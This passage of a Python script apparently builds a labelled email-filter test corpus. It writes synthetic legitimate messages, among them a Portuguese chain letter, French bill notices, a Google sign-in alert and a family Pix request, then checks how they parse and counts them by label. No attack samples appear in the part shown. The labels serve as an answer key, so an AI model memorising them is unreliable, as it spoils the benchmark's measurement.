             "Uma senhora de Minas quebrou a corrente e perdeu o emprego do filho... NÃO QUEBRE!!!<br><br>"
             "<font color='green'>⚠️ E ATENÇÃO: não abram o vídeo \"Dança do Papa\" que está circulando no WhatsApp, é vírus!!! Foi o que deu no jornal.</font></div>")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Arial;font-size:14px">Luiz querido, bom dia!! Recebi da Marlene e lembrei de vocês. Que Deus abençoe a sua semana, '
            'dá um beijo nas crianças. Tia Célia 😘🌹</div><br><hr>' + inner + '</body></html>\n')
    plain = ("Luiz querido, bom dia!! Recebi da Marlene e lembrei de vocês. Que Deus abençoe a sua semana, dá um beijo nas crianças. Tia Célia\n\n"
             "-----Mensagem original-----\nDe: Marlene Guedes <marleneguedes@uol.com.br>\nEnviada: segunda-feira, 10 de outubro de 2022 21:14\n"
             "Assunto: ENC: FW: ORAÇÃO PODEROSA DE SÃO BENTO - NÃO QUEBRE A CORRENTE\n\nORAÇÃO DE SÃO BENTO\n\nA Cruz Sagrada seja a minha luz...\n\n"
             "REPASSE PARA 10 PESSOAS QUE VOCÊ AMA E EM 10 DIAS RECEBERÁ UMA GRAÇA!!!\n\n"
             "E ATENÇÃO: não abram o vídeo \"Dança do Papa\" que está circulando no WhatsApp, é vírus!!!\n")
    mail(n, "clean", "Forwarded prayer chain letter from an aunt's BOL account to the family (all authentication passes): annoying urgency and a hoax virus warning, but legitimate personal mail.",
         prov="terra", rcpt=R_TER, t=t, tz=SP,
         frm=addr("Célia Pires", "celia.pires1952@bol.com.br"),
         to=f"luizhpires@terra.com.br, dora.pires@gmail.com, ze.antonio.pires@hotmail.com, nena.ferraz@uol.com.br, sandra_pires@yahoo.com.br",
         subj="ENC: ENC: FW: ORAÇÃO PODEROSA DE SÃO BENTO - NÃO QUEBRE A CORRENTE",
         body=alt(plain, html, bnd("next", n)), mf="celia.pires1952@bol.com.br", ip="200.147.36.17", helo="a2-fromint-smtp.bol.com.br", rdns="a2-fromint-smtp.bol.com.br",
         dkim=[("bol.com.br", "20170509", "pass")], dmarc=("pass", "NONE"),
         hops=[f"Received: from [179.93.12.214] (unknown [179.93.12.214])\n\tby a2-fromint-smtp.bol.com.br (Postfix) with ESMTPA id 4Mmv1K0G8Qz6xy\n\tfor <luizhpires@terra.com.br>; {fmt(t - timedelta(seconds=2), SP, True)}"],
         mid=f"<{hx(n, 8)}.{hx(n + 'x', 8)}@bol.com.br>", extra=["X-Mailer: BOL Mail"])

    # L20 -------------------------------------------------------------- friend photos EN from iPhone
    n = "friend-iphone-lake-photos"
    t = when(2023, 8, 28, 0, 41, 2)
    bnd_a = bnd("apple", n)
    plain = ("Hi Deb!\n\nHere are a few from the lake last weekend. The grandkids haven't stopped talking about the pontoon ride. "
             "Let me know if you want the rest, I have like 200 lol.\n\nSee you at book club Thursday?\n\nLove,\nKaren\n\nSent from my iPhone\n")
    body = Multi("mixed", bnd_a, [text(plain, "plain", "quoted-printable", "utf-8"),
                                  att("image/jpeg", "IMG_4417.jpeg", files.photo_jpeg(4417 % 97)),
                                  att("image/jpeg", "IMG_4420.jpeg", files.photo_jpeg(4420 % 97))])
    mail(n, "clean", "Personal mail from a friend's iPhone (Apple Mail headers, Gmail DKIM) with two lake photos attached and no link.",
         prov="yahoo", rcpt=R_YH, t=t, tz=ZoneInfo("America/Chicago"),
         frm=addr("Karen Mitchell", "karen.mitch1962@gmail.com"), subj="Lake pics!",
         body=body, mf="karen.mitch1962@gmail.com", ip="209.85.166.51", helo="mail-io1-f51.google.com",
         dkim=[("gmail.com", "20221208", "pass")], dmarc=("pass", "NONE"),
         hops=[f"Received: from smtpclient.apple ([2600:1700:5a80:7b40:c1a3:1fe2:98d4:6b1e])\n        by smtp.gmail.com with ESMTPSA id q10-20020a05{hx(n, 6)}.{num(n, 10, 99)}.2023.08.27.17.41.00\n        for <{R_YH}>\n        (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256 bits=128/128);\n        {fmt(t - timedelta(seconds=2), PT, True)}"],
         mid=f"<{uuid(n, True)}@gmail.com>", order=["From", "Subject", "Date", "Message-ID", "To"],
         extra=["X-Mailer: iPhone Mail (20G75)"], date=fmt(t - timedelta(seconds=3), ZoneInfo("America/Chicago")))

    # L21 -------------------------------------------------------------- French family mail, Thunderbird, quoted reply
    n = "famille-repas-dimanche-thunderbird"
    t = when(2024, 3, 6, 19, 22, 48)
    plain = ("Coucou Martine,\n\nOui pour dimanche, on sera là vers midi avec Bernard. Je m'occupe du dessert (tarte aux pommes comme d'habitude, "
             "maman la réclame). Est-ce que tu peux demander à Julien s'il récupère Mamie à l'EHPAD ou s'il faut que j'y passe ?\n\n"
             "Bises,\nSylvie\n\nLe 06/03/2024 à 18:57, Martine Lefebvre a écrit :\n> Coucou tout le monde,\n>\n> Maman aimerait qu'on fasse un repas "
             "dimanche 10 pour ses 80 ans, chez moi à Vannes.\n> Dites-moi qui vient, que je prévoie le gigot !\n>\n> Bisous\n> Martine\n")
    mail(n, "clean", "French family reply from a Free subscriber's Thunderbird to her sister on Orange, quoting the previous message; plain text, no link.",
         prov="orange", rcpt=R_ORA, t=t, tz=PARIS,
         frm=addr("Sylvie Lefebvre", "sylvie.lefebvre@free.fr"), subj="Re: Repas dimanche pour les 80 ans de maman",
         body=text(plain, "plain", "8bit", "utf-8"), mf="sylvie.lefebvre@free.fr", ip="212.27.42.2", helo="smtp2-g21.free.fr", rdns="smtp2-g21.free.fr",
         dkim=[("free.fr", "smtp-20201208", "pass")], dmarc=("pass", "NONE"),
         hops=[rx_postfix("[192.168.1.24]", "82.64.117.203", "smtp2-g21.free.fr", t - timedelta(seconds=1), n, R_ORA, PARIS, "ESMTPSA", None)],
         mid=f"<{uuid(n)}@free.fr>", order=["Message-ID", "Date", "Subject", "To", "From"],
         extra=["User-Agent: Mozilla Thunderbird", "Content-Language: fr", f"In-Reply-To: <{uuid(n + 'p')}@orange.fr>", f"References: <{uuid(n + 'p')}@orange.fr>"])

    # L22 -------------------------------------------------------------- Orange facture disponible
    n = "orange-facture-disponible"
    t = when(2023, 6, 9, 6, 15, 0)
    link = "https://espace-client.orange.fr/facture-paiement/" + str(num(n, 10**9, 10**10)) + "?xtor=EREC-2000"
    html = html_doc(card(
        row('<table><tr><td style="background:#ff7900;width:50px;height:50px"></td></tr></table>', "20px 32px 0")
        + row('<h2>Votre facture est disponible</h2><p>Bonjour M. Lefebvre,</p><p>Votre facture Livebox du mois de juin est disponible dans votre Espace Client.</p>'
              '<table style="background:#eee;width:100%"><tr><td style="padding:12px">Montant : <b>46,99 €</b><br>Prélevé le : 19/06/2023</td></tr></table>'
              '<p>Vous n\'avez rien à faire, le montant sera prélevé automatiquement.</p>')
        + row(button(link, "Consulter ma facture", "#000000"), "4px 32px 22px")
        + row('<p style="font-size:11px;color:#666">Orange SA, 111 quai du Président Roosevelt, 92130 Issy-les-Moulineaux. '
              'Orange ne vous demandera jamais vos coordonnées bancaires par e-mail.</p>')), lang="fr")
    plain = f"Votre facture est disponible\n\nMontant : 46,99 EUR, prélevé le 19/06/2023.\nConsulter ma facture : {link}\n"
    mail(n, "bulk", "Genuine Orange Livebox bill-available notice from orange.fr (DKIM/DMARC pass), automatic debit, link to espace-client.orange.fr.",
         prov="orange", rcpt=R_ORA, t=t, tz=PARIS,
         frm=addr("Orange", "ne-pas-repondre@orange.fr"), subj="Votre facture Orange est disponible",
         body=alt(plain, html, bnd("next", n)), mf="bounce-facture@orange.fr", ip="80.12.242.131", helo="smtp-out.orange.fr", rdns="smtp-out.orange.fr",
         dkim=[("orange.fr", "t20230301", "pass")], dmarc=("pass", "QUARANTINE"), mid=f"<{hx(n, 24)}.facturation@orange.fr>", subj_mode="Q")

    # L23 -------------------------------------------------------------- Free facture (plain)
    n = "free-facture-freebox"
    t = when(2024, 2, 2, 4, 11, 37)
    plain = ("Bonjour,\n\nVotre facture Freebox de janvier 2024 est disponible.\n\nMontant : 39,99 EUR TTC\nIdentifiant : fbx" + str(num(n, 10**7, 10**8)) + "\n"
             "Le montant sera prélevé sur votre compte à partir du 08/02/2024.\n\nPour consulter le détail de votre facture, rendez-vous dans votre "
             "Espace Abonné : https://subscribe.free.fr/login/\n\nCordialement,\nL'équipe Free\n")
    mail(n, "bulk", "Genuine Free monthly Freebox bill notice in plain text from free.fr (SPF/DKIM pass) pointing to subscribe.free.fr.",
         prov="free", rcpt=R_FREE, t=t, tz=PARIS,
         frm=addr("Free Haut Debit", "freebox@free.fr"), subj="Votre facture Freebox est disponible",
         body=text(plain, "plain", "quoted-printable", "iso-8859-1"), mf="freebox@free.fr", ip="212.27.42.110", helo="facturation-out.free.fr",
         dkim=[("free.fr", "smtp-20201208", "pass")], dmarc=("pass", "NONE"), mid=f"<{ts(t)}.{num(n, 10000, 99999)}@facturation.free.fr>")

    # L24 -------------------------------------------------------------- Google security alert
    n = "google-security-alert-new-signin"
    t = when(2025, 1, 9, 2, 25, 18)
    link = f"https://accounts.google.com/AccountChooser?Email={R_GM2}&continue=https://myaccount.google.com/alert/nt/{ts(t) * 1000}?rfn%3D325%26rfnc%3D1%26eid%3D{num(n, 10**18, 9 * 10**18)}%26et%3D0"
    html = html_doc(card(
        row('<img src="https://www.gstatic.com/images/branding/googlelogo/2x/googlelogo_color_74x24dp.png" width="74" height="24" alt="Google">', "24px 32px 0")
        + row(f'<p style="font-size:24px;text-align:center">A new sign-in on Windows</p><p style="text-align:center">{R_GM2}</p>'
              '<p>We noticed a new sign-in to your Google Account on a Windows device. If this was you, you don\'t need to do anything. If not, we\'ll help you secure your account.</p>')
        + row(button(link, "Check activity", "#4184f3"), "4px 32px 18px")
        + row('<p style="font-size:12px;color:#5f6368">You can also see security activity at<br>https://myaccount.google.com/notifications</p>'
              '<p style="font-size:11px;color:#5f6368">You received this email to let you know about important changes to your Google Account and services.<br>'
              '© 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</p>')), lang="en")
    plain = (f"A new sign-in on Windows\n\n{R_GM2}\nWe noticed a new sign-in to your Google Account on a Windows device. If this was you, you don't need to do anything. "
             f"If not, we'll help you secure your account.\nCheck activity\n{link}\nYou can also see security activity at\nhttps://myaccount.google.com/notifications\n")
    mail(n, "bulk", "Genuine Google 'new sign-in on Windows' security alert from no-reply@accounts.google.com (internal Google delivery, DKIM/DMARC pass), links to accounts.google.com.",
         prov="gmail", rcpt=R_GM2, t=t, tz=UTC,
         frm=addr("Google", "no-reply@accounts.google.com"), subj="Security alert",
         body=alt(plain, html, bnd("gmail", n)), mf=f"3{alnum(n, 26)}@gaia.bounces.google.com", ip="209.85.220.69", helo="mail-sor-f69.google.com",
         dkim=[("accounts.google.com", "20230601", "pass")], dmarc=("pass", "REJECT"), mid=f"<{b64s(n, 22).replace('/', '_')}@notifications.google.com>",
         order=["Date", "From", "To", "Message-ID", "Subject"], extra=[f"X-Account-Notification-Type: 127-anexp#nret-fa", f"Feedback-ID: 127-anexp#nret-fa:account-notifier",
                                                                        "X-Notifications: " + hx(n + "nt", 16), "X-Notifications-Bounce-Info: " + b64s(n + "nb", 60)])

    # L25 -------------------------------------------------------------- brother Pix split, real thread
    n = "irmao-pix-presente-mae-thread"
    t = when(2025, 4, 28, 22, 7, 44)
    plain = ("Fechado então! Comprei a poltrona ontem, deu R$ 1.380 com a entrega. Fica R$ 460 pra cada um (eu, você e a Bia).\n\n"
             "Minha chave Pix é o meu celular mesmo: (11) 98214-7730, Rodrigo Azevedo, Itaú.\n\nA entrega tá marcada pro sábado de manhã, antes do almoço. "
             "Não conta nada pra ela, hein!\n\nBeijo\nRodrigo\n\n"
             "Em dom., 27 de abr. de 2025 às 19:52, Renata Azevedo <renata.azevedo.sp@gmail.com> escreveu:\n\n"
             "> Amei a ideia da poltrona! Pode comprar que eu te mando minha parte, só me fala o valor certinho.\n> Bjs\n>\n"
             "> Em dom., 27 de abr. de 2025 às 18:30, Rodrigo Azevedo <rodrigo.azevedo.eng@gmail.com> escreveu:\n>\n"
             ">> Gente, pro aniversário da mãe pensei naquela poltrona reclinável que ela viu na loja do shopping. Dividimos em três?\n")
    html = ('<div dir="ltr">Fechado então! Comprei a poltrona ontem, deu R$ 1.380 com a entrega. Fica R$ 460 pra cada um (eu, você e a Bia).<div><br></div>'
            '<div>Minha chave Pix é o meu celular mesmo: (11) 98214-7730, Rodrigo Azevedo, Itaú.</div><div><br></div>'
            '<div>A entrega tá marcada pro sábado de manhã, antes do almoço. Não conta nada pra ela, hein!</div><div><br></div><div>Beijo</div><div>Rodrigo</div></div><br>'
            '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">Em dom., 27 de abr. de 2025 às 19:52, Renata Azevedo &lt;<a href="mailto:renata.azevedo.sp@gmail.com">renata.azevedo.sp@gmail.com</a>&gt; escreveu:<br></div>'
            '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex"><div dir="ltr">Amei a ideia da poltrona! '
            'Pode comprar que eu te mando minha parte, só me fala o valor certinho.<div>Bjs</div></div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">'
            'Em dom., 27 de abr. de 2025 às 18:30, Rodrigo Azevedo &lt;<a href="mailto:rodrigo.azevedo.eng@gmail.com">rodrigo.azevedo.eng@gmail.com</a>&gt; escreveu:<br></div>'
            '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex"><div dir="ltr">Gente, pro aniversário da mãe '
            'pensei naquela poltrona reclinável que ela viu na loja do shopping. Dividimos em três?</div></blockquote></div></blockquote></div>\n')
    p1, p2 = mid_gmail(n + "p1"), mid_gmail(n + "p2")
    mail(n, "clean", "Real family thread: a brother (genuine Gmail, all authentication passes) shares his own Pix key to split a gift, with the quoted earlier messages; money request that is legitimate.",
         prov="gmail", rcpt=R_GM1, t=t, tz=SP,
         frm=addr("Rodrigo Azevedo", "rodrigo.azevedo.eng@gmail.com"), to="Renata Azevedo <renata.azevedo.sp@gmail.com>",
         cc="Beatriz Azevedo <bia.azevedo.m@gmail.com>", subj="Re: Presente da mãe",
         body=alt(plain, html, bnd("gmail", n)), mf="rodrigo.azevedo.eng@gmail.com", ip="209.85.220.41", helo="mail-sor-f41.google.com",
         dkim=[("gmail.com", "20230601", "pass")], dmarc=("pass", "NONE"), mid=mid_gmail(n),
         order=["From", "Date", "Message-ID", "Subject", "To", "Cc"],
         extra=[f"References: {p1} {p2}", f"In-Reply-To: {p2}"])


# =========================================================================== main

def check():
    problems = []
    counts: dict[str, int] = {}
    for path, cat, _ in RESULTS:
        counts[cat] = counts.get(cat, 0) + 1
        raw = (ROOT / path).read_bytes()
        msg = email.message_from_bytes(raw, policy=policy.default)
        for part in msg.walk():
            if part.defects:
                problems.append(f"{path}: {part.defects}")
            if not part.is_multipart() and part.get_content_maintype() == "text":
                part.get_content()
        str(msg["subject"])
        str(msg["from"])
        if msg.defects:
            problems.append(f"{path}: {msg.defects}")
    return counts, problems



# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind).
REFILED = {
    "b17-bulk-correios-saiu-para-entrega": "clean",
    "b17-bulk-free-facture-freebox": "clean",
}

def main():
    for old in list(MAIL.glob("*/b17-*.eml")):
        old.unlink()
    attacks()
    legit()
    MANIFEST.write_text("".join(f"{p} | {c} | {d}\n" for p, c, d in RESULTS), encoding="utf-8")
    counts, problems = check()
    for p in problems:
        print("DEFECT", p)
    attack = counts.get("phishing", 0) + counts.get("malware", 0)
    good = counts.get("clean", 0) + counts.get("bulk", 0)
    print(f"blind17: {len(RESULTS)} messages - attacks {attack} (phishing {counts.get('phishing', 0)}, malware {counts.get('malware', 0)}), "
          f"legitimate {good} (clean {counts.get('clean', 0)}, bulk {counts.get('bulk', 0)})")


if __name__ == "__main__":
    main()
